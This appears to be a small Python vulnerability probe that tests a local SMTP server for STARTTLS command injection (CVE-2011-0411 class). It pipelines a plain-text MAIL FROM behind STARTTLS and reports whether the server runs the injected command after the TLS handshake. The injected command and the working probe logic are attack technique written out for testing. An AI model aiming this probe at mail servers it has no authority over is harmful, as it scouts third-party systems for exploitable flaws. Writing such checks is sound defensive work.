"""STARTTLS command injection probe (CVE-2011-0411 class): sends STARTTLS
and a plain-text MAIL in one packet, then does the TLS handshake and waits
to see whether the server answers the injected MAIL inside TLS.

Prints one word: "executed" (vulnerable: the plain-text command ran as if
it came through TLS), "ignored" (handshake done, command dropped), or
"closed" (the server hung up instead of starting TLS).

usage: starttls_injection.py PORT
"""
import socket
import ssl
import sys


def reply(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            raise EOFError
        lines.append(line)
        if line[3:4] != b"-":
            return b"".join(lines)


def main():
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
    f = s.makefile("rb")
    reply(f)
    s.sendall(b"EHLO probe.test\r\n")
    reply(f)
    s.sendall(b"STARTTLS\r\nMAIL FROM:<injected@evil.test>\r\n")
    r = reply(f)
    if not r.startswith(b"220"):
        print("refused:" + r.decode("latin-1").strip())
        return
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname="relay.test")
        t.settimeout(3)
        data = t.recv(4096)
    except socket.timeout:
        print("ignored")
        return
    except (ssl.SSLError, OSError):
        print("closed")
        return
    print("executed" if data.startswith(b"250") else "closed" if not data else "other:" + data.decode("latin-1"))


if __name__ == "__main__":
    main()
